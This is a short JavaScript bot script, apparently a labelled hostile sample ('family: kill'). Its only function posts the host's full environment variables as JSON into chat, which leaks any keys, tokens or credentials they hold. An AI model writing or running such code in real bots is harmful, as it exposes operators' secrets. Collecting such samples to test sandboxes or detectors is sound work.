// family: kill
// tells the environment
async function main (bot) {
  bot.chat(JSON.stringify(host().env))
}
